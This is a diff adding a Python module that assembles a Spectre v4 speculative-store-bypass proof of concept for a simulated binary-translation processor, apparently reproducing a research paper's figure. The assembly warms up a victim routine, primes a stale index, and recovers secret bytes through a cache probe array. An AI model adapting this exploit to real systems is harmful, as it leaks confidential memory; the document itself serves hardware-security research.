@@ -1,0 +1,149 @@
+"""Spectre v4 on the DBT platform: memory-dependency speculation.
+
+Reconstruction of the paper's Figure 2 PoC (Section III-B).  The victim
+stores a *safe* index into ``addr_buf[0]``, where the stored value is the
+result of a long computation (a division chain), then immediately loads
+``addr_buf[0]`` back and uses it to index ``buffer`` and the probe array.
+
+Once the block is hot, the DBT engine cannot disambiguate the store and
+the loads (base registers differ), so with memory speculation enabled the
+scheduler hoists the loads above the slow store as MCB-tracked
+speculative loads.  At run time the hoisted load reads the *stale* value
+of ``addr_buf[0]`` — which the attacker primed with ``&secret - &buffer``
+— so the dependent loads read the secret and touch a secret-indexed probe
+line.  The store then hits the MCB (same address as the speculative
+load), execution rolls back and the recovery code produces the correct
+architectural result; the cache keeps the leak.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from ..isa.assembler import assemble
+from ..isa.program import Program
+from .sidechannel import (
+    DEFAULT_THRESHOLD,
+    LINE_SIZE,
+    PROBE_ENTRIES,
+    flush_probe_array,
+    probe_and_classify,
+    record_recovered,
+    write_and_exit,
+)
+
+#: See spectre_v1: secret bytes must be non-zero.
+DEFAULT_SECRET = b"GHOSTBUSTERS!"
+
+
+@dataclass(frozen=True)
+class SpectreV4Config:
+    """Attack parameters."""
+
+    secret: bytes = DEFAULT_SECRET
+    #: Warm-up calls before the attack rounds (hotness threshold).
+    warmup_calls: int = 24
+    threshold: int = DEFAULT_THRESHOLD
+
+    def __post_init__(self) -> None:
+        if not self.secret:
+            raise ValueError("secret must be non-empty")
+        if 0 in self.secret:
+            raise ValueError("secret bytes must be non-zero (0 = 'no hit')")
+
+
+_SOURCE_TEMPLATE = """
+# ---- Spectre v4 on a DBT-based processor (paper Figure 2 / Sec. III-B)
+.equ SECRET_LEN, {secret_len}
+.equ WARMUP_CALLS, {warmup_calls}
+
+_start:
+    # --- Phase 1: warm the victim up so the DBT engine optimizes it.
+    li s0, 0
+warm_loop:
+    call prime_safe
+    call victim
+    addi s0, s0, 1
+    li t0, WARMUP_CALLS
+    blt s0, t0, warm_loop
+
+    # --- Phase 2: one round per secret byte.
+    li s6, 0
+round_loop:
+{flush}
+    # Prime addr_buf[0] with the malicious index (&secret[round]-&buffer),
+    # which the speculative load will read before the store replaces it.
+    la t0, secret
+    add t0, t0, s6
+    la t1, buffer
+    sub t0, t0, t1
+    la t2, addr_buf
+    sd t0, 0(t2)
+    call victim
+{probe}
+{record}
+    addi s6, s6, 1
+    li t0, SECRET_LEN
+    blt s6, t0, round_loop
+{epilogue}
+
+# ---- Priming helper for warm-up rounds: a benign stale value.
+prime_safe:
+    li t0, 1
+    la t2, addr_buf
+    sd t0, 0(t2)
+    ret
+
+# ---- The victim (Figure 2).  The stored value depends on a division
+# chain, so in the static schedule the store is late while the loads are
+# ready immediately: with memory speculation they are hoisted above it.
+victim:
+    li t3, 1000000
+    li t4, 997
+    div t5, t3, t4
+    div t5, t5, t4           # "long computation"
+    andi t5, t5, 7           # safe index, data-dependent on the chain
+    la t2, addr_buf
+    sd t5, 0(t2)             # addr_buf[0] = safe       (slow store)
+    ld a0, 0(t2)             # int a = addr_buf[0]      (speculated: stale)
+    la t1, buffer
+    add t1, t1, a0
+    lbu a1, 0(t1)            # char b = buffer[a]       (reads the secret)
+    slli a1, a1, 6
+    la t3, array_val
+    add t3, t3, a1
+    lbu a2, 0(t3)            # char c = array_val[b*64] (the leak)
+    ret
+
+.data
+addr_buf:
+    .space 64
+buffer:
+    .space 16
+secret:
+{secret_bytes}
+.align 6
+array_val:
+    .space {probe_bytes}
+recovered:
+    .space {recovered_space}
+"""
+
+
+def build_program(config: SpectreV4Config = SpectreV4Config()) -> Program:
+    """Assemble the complete Spectre v4 guest program."""
+    secret_bytes = "\n".join(
+        "    .byte %d" % value for value in config.secret
+    )
+    source = _SOURCE_TEMPLATE.format(
+        secret_len=len(config.secret),
+        warmup_calls=config.warmup_calls,
+        flush=flush_probe_array("flush_v4"),
+        probe=probe_and_classify("probe_v4", threshold=config.threshold),
+        record=record_recovered(),
+        epilogue=write_and_exit(),
+        secret_bytes=secret_bytes,
+        probe_bytes=PROBE_ENTRIES * LINE_SIZE,
+        recovered_space=max(8, len(config.secret)),
+    )
+    return assemble(source)
